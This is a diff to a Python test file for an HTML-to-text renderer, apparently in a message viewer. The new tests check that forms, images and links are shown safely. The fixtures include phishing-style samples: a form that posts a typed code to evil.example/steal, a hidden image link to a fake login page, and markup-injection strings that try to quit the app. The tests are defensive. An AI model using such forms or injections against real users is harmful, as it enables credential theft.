@@ -173,7 +173,7 @@ def test_h08_a_link_of_a_megabyte_is_none_and_signs_of_a_shell_are_encoded():
     ],
 )
 def test_what_is_no_text_is_not_copied(html: str):
-    assert [block.text for block in html_blocks(html) if block.text] == ["text"]
+    assert [block.text for block in html_blocks(html) if block.text not in ("", "[picture]")] == ["text"]
 
 
 @pytest.mark.parametrize(
@@ -185,10 +185,29 @@ def test_what_is_no_text_is_not_copied(html: str):
         pytest.param("<ruby>漢<rt>kan</rt></ruby>", "漢", id="H10-ruby"),
         pytest.param("<p>a <img src=x alt='😀'> b</p>", "😀", id="H10-picture-of-an-emoji"),
         pytest.param("<p>x<sup>2</sup></p>", "2", id="H10-power"),
+        pytest.param("<math><mi>x</mi><mo>=</mo><mn>2</mn></math>", "x=2", id="H10-formula"),
+        pytest.param("<object data=film>Film here</object>", "Film here", id="H10-in-place-of-an-object"),
+        pytest.param("<form><input type=submit value='Sign in'></form>", "[Sign in]", id="H10-submit"),
+        pytest.param("<form><input type=password placeholder=Password></form>", "[Password]", id="H10-password"),
     ],
 )
 def test_unusual_elements_are_read(html: str, text: str):
     assert text in "\n".join(block.text for block in html_blocks(html))
+
+
+def test_h10_a_form_tells_where_it_would_send_what_is_typed():
+    html = "<form action='https://evil.example/steal'>Your code <input name=code><input type=hidden value=no></form>"
+    shown = [block.text for block in html_blocks(html) if block.text]
+    assert shown == ["A form in this message would send what is typed to evil.example.", "Your code"]
+
+
+def test_h07_pictures_that_are_all_of_a_message_are_seen_with_their_links():
+    links = LinkList()
+    html = "<a href='https://evil.example/login'><img src='cid:1'></a><img src=x width=1 height=1>"
+    assert [block.text for block in html_blocks(html, links) if block.text] == ["[picture]"]
+    assert [(link.text, link.host) for link in links.links] == [("[picture]", "evil.example")]
+    described = [block.text for block in html_blocks(f"<p>{'a text ' * 20}</p>{html}") if block.text]
+    assert described == [("a text " * 20).strip()]
 
 
 @pytest.mark.parametrize("text", ["[@click=app.quit]x[/]", "[link='https://evil.example']x[/link]"])
